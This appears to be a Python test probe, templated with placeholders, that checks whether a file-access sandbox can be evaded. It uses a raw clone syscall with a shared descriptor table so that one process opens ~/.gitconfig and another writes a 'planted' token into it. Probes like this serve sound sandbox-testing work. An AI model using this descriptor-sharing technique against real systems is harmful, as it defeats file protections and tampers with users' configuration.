"""One process opens a place that is guarded, another writes: they have one table of descriptors."""

import ctypes
import os
import platform
import signal
import time
from pathlib import Path

_MARKS = Path("@MARKS@")
_CLONE = {"x86_64": 56, "aarch64": 220}[platform.machine()]
_CLONE_FILES = 0x400
_PATIENCE = 5.0


def act():
    opener = os.fork()
    if opener == 0:
        _open_for_another()
    os.waitpid(opener, 0)
    deadline = time.monotonic() + _PATIENCE
    while time.monotonic() < deadline and not (_MARKS / "survived").exists():
        time.sleep(0.05)


def _open_for_another():
    number = os.dup(0)
    os.close(number)
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(_CLONE, _CLONE_FILES | signal.SIGCHLD, 0, 0, 0, 0) == 0:
        _write(number)
    (_MARKS / "sharing").touch()
    time.sleep(0.2)
    os.open(Path.home() / ".gitconfig", os.O_WRONLY | os.O_APPEND)
    time.sleep(_PATIENCE)
    os._exit(0)


def _write(number):
    deadline = time.monotonic() + _PATIENCE
    while time.monotonic() < deadline:
        try:
            os.write(number, b"# planted @TOKEN@\n")
            break
        except OSError:
            time.sleep(0.001)
    time.sleep(1)
    (_MARKS / "survived").touch()
    os._exit(0)
